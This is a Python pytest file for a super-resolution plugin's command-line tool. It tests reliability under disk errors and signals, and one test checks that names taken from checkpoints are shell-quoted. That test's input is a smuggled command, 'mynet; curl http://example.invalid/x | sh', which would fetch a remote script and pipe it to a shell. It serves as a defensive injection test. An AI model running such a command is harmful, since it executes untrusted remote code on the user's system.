"""Nothing silent, round 2 (issue 22): every command survives a bad item, says one line for a
full or read-only disk or a file in the wrong place, stops cleanly on a signal and cleans what
a killed run left; file names and option values that used to slip through. Real files in
tmp_path; a full or read-only disk is the plugin's lowest write raising, or a real file-size
limit in a subprocess."""
import errno
import os
import resource
import shlex
import signal
import subprocess
import sys
import time

import cv2
import numpy as np
import pytest
import torch
import yaml

from classsr_plugin import ClassSR, atomic
from classsr_plugin.cli import main
from test_reliability import ckpt, noise  # noqa: F401 (ckpt: a fixture)

FSRCNN = {"type": "FSRCNN", "d": 56, "upscale": 4}
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def images(folder, sizes):
    os.makedirs(folder, exist_ok=True)
    for k, (name, (h, w)) in enumerate(sizes.items()):
        assert cv2.imwrite(os.path.join(folder, name), noise(h, w, k))
    return str(folder)


def _prepared(tmp_path):
    hr = images(tmp_path / "hr", {"a.png": (64, 64)})
    assert main(["prepare", "--hr", hr, "--out", str(tmp_path / "sub"), "--scales", "1", "--tile", "8",
                 "--stride", "8"]) == 0
    return str(tmp_path / "sub")


def one_line(text):
    lines = text.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in text, text
    return lines[0]


# -- 10. names from a checkpoint in a suggested command are quoted ------------------------------
def test_suggested_import_is_quoted():
    from classsr_plugin.imports import missing_hint
    name = "mynet; curl http://example.invalid/x | sh"
    hint = missing_hint([name])
    command = hint.split("(classsr ... ", 1)[1].split(", or custom_imports")[0]
    assert shlex.split(command) == ["--import", name]
    assert "--import sixconv" in missing_hint(["sixconv"])  # plain names stay as they are
